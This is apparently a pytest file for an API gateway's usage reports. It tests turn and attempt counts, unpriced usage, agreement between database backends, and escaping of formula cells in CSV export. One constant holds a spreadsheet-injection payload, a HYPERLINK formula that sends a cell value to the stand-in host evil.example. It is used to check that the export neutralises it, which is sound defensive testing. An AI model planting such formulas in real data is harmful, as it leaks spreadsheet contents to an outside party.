"""Usage reports with one meaning: `requests` are turns in every grouping, attempts beside them,
no rate above 100%, unpriced usage counted rather than dropped, and a CSV a spreadsheet opens
without running anything."""

from __future__ import annotations

import asyncio
import csv
import io
from typing import Any

import aiohttp
import pytest

from gateway.metering.reports import COLUMNS, CSV_COLUMNS, GROUPS, UsageStore, to_csv
from gateway.metering.usage import UsageRecord
from gateway.storage.store import Store
from tests.conftest import GatewayUnderTest, MakeGateway, MakeUpstream
from tests.fakes import DONE, USAGE, chunk, frames, status

MASTER = "master-key-for-tests-0123456789"
HELLO = [{"role": "user", "content": "Hello"}]
PRICE = {"input_cost_per_mtok": 2.0, "output_cost_per_mtok": 8.0}
NO_WAIT = {"max_attempts": 3, "backoff_s": 0}
# A user name a spreadsheet would run as a formula.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def answer() -> Any:
    usage = chunk(usage=USAGE, no_choices=True)
    return frames(chunk("Hi there."), chunk(finish="stop"), usage, DONE)


def fail() -> Any:
    return status(500, {"error": {"message": "boom", "type": "server_error"}})


async def admin(gw: GatewayUnderTest, path: str, body: dict[str, Any]) -> dict[str, Any]:
    headers = {"Authorization": f"Bearer {MASTER}"}
    async with aiohttp.ClientSession(headers=headers) as session:
        async with session.post(gw.url + path, json=body) as response:
            assert response.status == 201, await response.text()
            result: dict[str, Any] = await response.json()
            return result


async def report(gw: GatewayUnderTest, query: str) -> Any:
    headers = {"Authorization": f"Bearer {MASTER}"}
    async with aiohttp.ClientSession(headers=headers) as session:
        async with session.get(gw.url + "/v1/usage" + query) as response:
            assert response.status == 200, await response.text()
            return await response.text() if "csv" in query else await response.json()


async def stream(gw: GatewayUnderTest, key: str, model: str) -> None:
    """A streamed request read to its end (an upstream failure is the client's error)."""
    async with aiohttp.ClientSession(headers={"Authorization": f"Bearer {key}"}) as session:
        body = {"model": model, "messages": HELLO, "stream": True}
        async with session.post(gw.url + "/v1/chat/completions", json=body) as response:
            await response.read()


@pytest.fixture
async def busy(make_gateway: MakeGateway, make_upstream: MakeUpstream) -> GatewayUnderTest:
    """A gateway that served every kind of turn: answered at once, answered after a failed
    attempt on another deployment, failed on both of its deployments, answered by an
    unpriced deployment, cut short by its client; by two teams' keys, one with a user."""
    first, second, unpriced = [await make_upstream() for _ in range(3)]
    gw = await make_gateway(
        models=[
            {
                "name": "m",
                "retry": NO_WAIT,
                "deployments": [
                    {"provider": "openai", "api_base": first.url, "name": "d1", **PRICE},
                    {"provider": "openai", "api_base": second.url, "name": "d2", **PRICE},
                ],
            },
            {
                "name": "free-text",
                "deployments": [
                    {"provider": "openai", "api_base": unpriced.url, "name": "mystery"}
                ],
            },
        ],
        auth={"master_key": MASTER},
    )
    keys = {}
    for team, user in (("red", FORMULA), ("blue", None)):
        await admin(gw, "/v1/gateway/teams", {"id": team, "name": team})
        keys[team] = (await admin(gw, "/v1/gateway/keys", {"team_id": team, "user": user}))["key"]
    red, blue = keys["red"], keys["blue"]
    first.push(answer())  # red: answered by d1 at once
    await stream(gw, red, "m")
    first.push(fail())  # red: d1 fails, d2 answers
    second.push(answer())
    await stream(gw, red, "m")
    first.push(fail(), fail())  # blue: d1, d2, d1 again: all fail
    second.push(fail())
    await stream(gw, blue, "m")
    unpriced.push(answer())  # blue: an unpriced deployment answers
    await stream(gw, blue, "free-text")
    # red: cut short by its client after the first words, on an unpriced deployment
    unpriced.push(frames(chunk("One, "), then="stall"))
    async with aiohttp.ClientSession(headers={"Authorization": f"Bearer {red}"}) as session:
        body = {"model": "free-text", "messages": HELLO, "stream": True}
        async with session.post(gw.url + "/v1/chat/completions", json=body) as response:
            await response.content.readline()
    async with asyncio.timeout(10):  # the cut turn ends when the gateway notices
        while gw.query("SELECT COUNT(*) FROM turns WHERE ended_at IS NOT NULL")[0][0] < 5:
            await gw.flush()
            await asyncio.sleep(0.01)
    return gw


@pytest.mark.parametrize("group_by", list(GROUPS))
async def test_totals_equal_the_recorded_turns_in_every_grouping(
    busy: GatewayUnderTest, group_by: str
) -> None:
    gw = busy
    [(turns, failed_turns)] = gw.query(
        "SELECT COUNT(*), SUM(CASE WHEN status = 'error' THEN 1 ELSE 0 END) FROM turns"
    )
    [(attempts, failed, prompt, completion, cost)] = gw.query(
        "SELECT COUNT(*), SUM(CASE WHEN status = 'error' THEN 1 ELSE 0 END),"
        " SUM(prompt_tokens), SUM(completion_tokens), SUM(cost_usd) FROM usage"
    )
    [(unpriced_turns, unpriced_prompt)] = gw.query(
        "SELECT COUNT(DISTINCT turn_id), SUM(prompt_tokens) FROM usage WHERE cost_usd IS NULL"
    )
    assert (turns, failed_turns, attempts, failed, unpriced_turns) == (5, 1, 8, 4, 2)
    rows = (await report(gw, f"?group_by={group_by}&granularity=hour"))["data"]

    def total(name: str) -> Any:
        return sum(r[name] or 0 for r in rows)

    assert total("requests") == turns
    assert total("attempts") == attempts
    assert total("failed_attempts") == failed
    assert total("errors") == failed_turns
    assert total("interrupted") == 1
    assert total("prompt_tokens") == prompt
    assert total("completion_tokens") == completion
    assert total("unpriced_requests") == unpriced_turns == 2
    assert total("unpriced_prompt_tokens") == unpriced_prompt > 0
    assert total("cost_usd") == pytest.approx(cost)
    for row in rows:  # no rate above 100%
        for part in ("interrupted", "errors", "estimated", "unpriced_requests"):
            assert row[part] <= row["requests"], (part, row)
        assert row["failed_attempts"] <= row["attempts"]


async def test_a_model_failing_on_both_deployments_has_one_failed_request(
    busy: GatewayUnderTest,
) -> None:
    by_model = {r["group"]: r for r in (await report(busy, "?group_by=model"))["data"]}
    m = by_model["m"]
    # Three turns: one answered at once, one after a failed attempt, one failed three times.
    assert (m["requests"], m["attempts"], m["failed_attempts"], m["errors"]) == (3, 6, 4, 1)
    assert m["unpriced_requests"] == 0 and m["cost_usd"] > 0
    free = by_model["free-text"]
    assert (free["requests"], free["unpriced_requests"], free["interrupted"]) == (2, 2, 1)
    assert free["cost_usd"] is None and free["unpriced_completion_tokens"] > 0
    by_deployment = {r["group"]: r for r in (await report(busy, "?group_by=deployment"))["data"]}
    # A turn counts where its last attempt ran: d1 answered one turn and made the last of the
    # failed one's three attempts (d1, d2, d1); its other failures are attempts, not requests.
    assert (by_deployment["d1"]["requests"], by_deployment["d1"]["attempts"]) == (2, 4)
    assert (by_deployment["d1"]["failed_attempts"], by_deployment["d1"]["errors"]) == (3, 1)
    assert (by_deployment["d2"]["requests"], by_deployment["d2"]["attempts"]) == (1, 2)


async def test_a_csv_cell_starting_with_a_formula_comes_out_inert(busy: GatewayUnderTest) -> None:
    text = await report(busy, "?group_by=user&format=csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == CSV_COLUMNS
    groups = {r["group"] for r in rows}
    assert "'" + FORMULA in groups and FORMULA not in groups
    # The JSON keeps the value as it is.
    data = (await report(busy, "?group_by=user"))["data"]
    assert FORMULA in {r["group"] for r in data}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_escaped(start: str) -> None:
    row = dict.fromkeys(COLUMNS, 0) | {"group": start + "1+1", "period_start": "2026-01-01"}
    [parsed, _] = list(csv.DictReader(io.StringIO(to_csv([row]))))
    assert parsed["group"] == "'" + start + "1+1"
    assert parsed["requests"] == "0"  # numbers untouched


# -- the same report from both stores -------------------------------------------------------------


def record(turn: str, attempt: int, deployment: str, status: str, **extra: Any) -> UsageRecord:
    fields: dict[str, Any] = {
        "id": f"{turn}:{attempt}",
        "turn_id": turn,
        "conversation_id": "c",
        "team_id": "t",
        "key_id": "k",
        "user": None,
        "alias": "m",
        "deployment": deployment,
        "provider": "openai",
        "model": "x",
        "created_at": 7200.0 + attempt,
        "status": status,
        "prompt_tokens": 10,
        "completion_tokens": 5 if status != "error" else 0,
        "completion_delivered": 5 if status != "error" else 0,
        "reasoning_tokens": 0,
        "cached_tokens": 0,
        "usage_source": "provider",
        "cost_usd": 0.001,
        "ttft_ms": None,
        "duration_ms": None,
    }
    return UsageRecord(**(fields | extra))


async def test_reports_read_the_same_from_sqlite_and_postgresql(store: Store) -> None:
    usage = UsageStore(store)
    # Turn a: eleven attempts (numbers sort as numbers, not text: 11 is last), the last on b.
    for n in range(1, 11):
        usage.write(record("a", n, "a-dep", "error", cost_usd=0.0, prompt_tokens=0))
    usage.write(record("a", 11, "b-dep", "completed"))
    usage.write(record("u", 1, "b-dep", "interrupted", cost_usd=None, usage_source="estimated"))
    usage.write(record("w", 1, "b-dep", "completed", cache_write_5m_tokens=3))
    await store.flush()
    for group_by, expect in [
        ("model", {"m": (3, 13, 10, 0, 1, 1, 1)}),
        ("deployment", {"a-dep": (0, 10, 10, 0, 0, 0, 0), "b-dep": (3, 3, 0, 0, 1, 1, 1)}),
    ]:
        rows = await usage.report(
            # The records' first two days: a range of centuries would have each backend sum
            # every one of its days first, which is not what this compares.
            group_by=group_by,
            start=0,
            end=2 * 86400,
            granularity="day",
            team_id=None,
        )
        got = {
            r["group"]: (
                r["requests"],
                r["attempts"],
                r["failed_attempts"],
                r["errors"],
                r["interrupted"],
                r["estimated"],
                r["unpriced_requests"],
            )
            for r in rows
        }
        assert got == expect, group_by
        assert sum(r["cache_write_5m_tokens"] for r in rows) == 3
        assert {type(r["requests"]) for r in rows} == {int}
        assert rows[0]["period_start"] == "1970-01-01T00:00:00+00:00"
